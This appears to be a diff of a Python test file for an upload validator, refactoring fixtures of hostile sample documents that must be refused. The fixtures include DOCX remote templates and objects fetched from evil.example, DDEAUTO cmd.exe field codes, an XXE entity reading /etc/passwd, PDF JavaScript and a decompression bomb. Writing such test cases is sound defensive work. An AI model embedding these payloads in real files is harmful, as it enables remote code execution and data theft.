@@ -15,6 +15,9 @@ from tests.files import samples as s
 
 NOT_ITS_NAME = "The content of “%(name)s” is not what its name says. Save it again in the right format."
 NOT_A_KIND = "“%(name)s” cannot be taken. Attach PDF, Word (docx), Excel (xlsx), JPEG or PNG files."
+OTHER_WORKBOOK = s.relationship("externalLinkPath", "file:///x", external=True)
+SPLIT = "<w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>E cmd</w:instrText></w:r>"
+OBJECTS = b"/Type /ObjStm /Filter /FlateDecode"
 
 SOUND = [
     ("通知.pdf", s.pdf(), FileKind.PDF),
@@ -22,7 +25,7 @@ SOUND = [
     ("图像流.pdf", s.pdf(s.pdf_stream(b"/Length 9 /Subtype /Image", b"\x00/JS\x00/JavaScript")), FileKind.PDF),
     (
         "对象流.pdf",
-        s.pdf(s.pdf_stream(b"/Type /ObjStm /Filter /FlateDecode", zlib.compress(b"<< /Type /Page >>"))),
+        s.pdf(s.pdf_stream(OBJECTS, zlib.compress(b"<< /Type /Page >>"))),
         FileKind.PDF,
     ),
     ("说明.docx", s.docx(), FileKind.DOCX),
@@ -78,12 +81,12 @@ HOSTILE = [
     ("外发.pdf", s.pdf(b"3 0 obj\n<< /S /SubmitForm /F (http://x) >>\nendobj\n"), unfit.SCRIPTED),
     (
         "流里脚本.pdf",
-        s.pdf(s.pdf_stream(b"/Type /ObjStm /Filter /FlateDecode", zlib.compress(b"<< /S /JavaScript /JS (1) >>"))),
+        s.pdf(s.pdf_stream(OBJECTS, zlib.compress(b"<< /S /JavaScript /JS (1) >>"))),
         unfit.SCRIPTED,
     ),
     (
         "炸弹.pdf",
-        s.pdf(s.pdf_stream(b"/Type /ObjStm /Filter /FlateDecode", zlib.compress(bytes(105 * 1024 * 1024), 9))),
+        s.pdf(s.pdf_stream(OBJECTS, zlib.compress(bytes(105 * 1024 * 1024), 9))),
         unfit.UNPACKS,
     ),
     ("双面.pdf", s.pdf(after=s.zipped({"a.js": "x"})), unfit.TWO_IN_ONE),
@@ -107,19 +110,23 @@ HOSTILE = [
     ),
     (
         "远程模板.docx",
-        s.docx({"word/_rels/settings.xml.rels": s.relationship("attachedTemplate", "https://evil.example/t.dotm", external=True)}),
+        s.linked("attachedTemplate", "https://evil.example/t.dotm"),
         unfit.OUTSIDE,
     ),
-    ("远程对象.docx", s.docx({"word/_rels/document.xml.rels": s.relationship("oleObject", "https://evil.example/x", external=True)}), unfit.OUTSIDE),
-    ("远程图片.docx", s.docx({"word/_rels/document.xml.rels": s.relationship("image", "//evil.example/x.png", external=True)}), unfit.OUTSIDE),
-    ("远程框架.docx", s.docx({"word/_rels/webSettings.xml.rels": s.relationship("frame", "http://evil.example", external=True)}), unfit.OUTSIDE),
-    ("远程子文档.docx", s.docx({"word/_rels/document.xml.rels": s.relationship("subDocument", "\\\\host\\x", external=True)}), unfit.OUTSIDE),
-    ("本地链接.docx", s.docx({"word/_rels/document.xml.rels": s.relationship("hyperlink", "file://host/x", external=True)}), unfit.OUTSIDE),
-    ("脚本链接.docx", s.docx({"word/_rels/document.xml.rels": s.relationship("hyperlink", "JavaScript:x", external=True)}), unfit.OUTSIDE),
-    ("外部簿.xlsx", s.xlsx({"xl/externalLinks/_rels/externalLink1.xml.rels": s.relationship("externalLinkPath", "file:///x", external=True)}), unfit.OUTSIDE),
-    ("动态.xlsx", s.xlsx({"xl/externalLinks/externalLink1.xml": "<externalLink><ddeLink ddeService='cmd'/></externalLink>"}), unfit.MACROS),
+    ("远程对象.docx", s.linked("oleObject", "https://evil.example/x"), unfit.OUTSIDE),
+    ("远程图片.docx", s.linked("image", "//evil.example/x.png"), unfit.OUTSIDE),
+    ("远程框架.docx", s.linked("frame", "http://evil.example"), unfit.OUTSIDE),
+    ("远程子文档.docx", s.linked("subDocument", "\\\\host\\x"), unfit.OUTSIDE),
+    ("本地链接.docx", s.linked("hyperlink", "file://host/x"), unfit.OUTSIDE),
+    ("脚本链接.docx", s.linked("hyperlink", "JavaScript:x"), unfit.OUTSIDE),
+    ("外部簿.xlsx", s.xlsx({"xl/externalLinks/_rels/externalLink1.xml.rels": OTHER_WORKBOOK}), unfit.OUTSIDE),
+    (
+        "动态.xlsx",
+        s.xlsx({"xl/externalLinks/externalLink1.xml": "<externalLink><ddeLink/></externalLink>"}),
+        unfit.MACROS,
+    ),
     ("动态.docx", s.docx(body="<w:r><w:instrText> DDEAUTO c:\\\\cmd.exe </w:instrText></w:r>"), unfit.MACROS),
-    ("拆开的.docx", s.docx(body="<w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>E cmd</w:instrText></w:r>"), unfit.MACROS),
+    ("拆开的.docx", s.docx(body=SPLIT), unfit.MACROS),
     ("简域.docx", s.docx(body='<w:fldSimple w:instr="dde cmd"/>'), unfit.MACROS),
     ("实体.docx", s.docx({"word/_rels/document.xml.rels": '<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'}), unfit.DAMAGED),
     ("外部实体.docx", s.docx({"word/footnotes.xml": '<!DOCTYPE x SYSTEM "file:///etc/passwd"><x/>'}), unfit.DAMAGED),
@@ -148,7 +155,7 @@ HOSTILE = [
     ("页面.jpg", s.picture("JPEG", comment=b"<SvG onload=alert(1)>"), unfit.TWO_IN_ONE),
     ("双面.jpg", s.picture("JPEG", comment=b"%PDF-1.4 x"), unfit.TWO_IN_ONE),
     ("尾巴.png", s.picture("PNG") + b"anything", unfit.TWO_IN_ONE),
-]  # fmt: skip
+]
 
 
 def _named(case: tuple) -> str:
@@ -172,9 +179,16 @@ def test_a_hostile_file_is_refused_with_the_sentence_that_helps(case):
 
 def test_damaged_bytes_are_refused_and_never_an_error():
     chance = random.Random(6)
-    for name, sound in (("a.pdf", s.pdf()), ("a.docx", s.docx()), ("a.xlsx", s.xlsx()), ("a.jpg", s.picture("JPEG")), ("a.png", s.picture("PNG"))):  # fmt: skip
+    sound = {
+        "a.pdf": s.pdf(),
+        "a.docx": s.docx(),
+        "a.xlsx": s.xlsx(),
+        "a.jpg": s.picture("JPEG"),
+        "a.png": s.picture("PNG"),
+    }
+    for name, whole in sound.items():
         for _turn in range(150):
-            data = bytearray(sound)
+            data = bytearray(whole)
             for _change in range(chance.randint(1, 6)):
                 data[chance.randrange(len(data))] = chance.randrange(256)
             with contextlib.suppress(Refused):
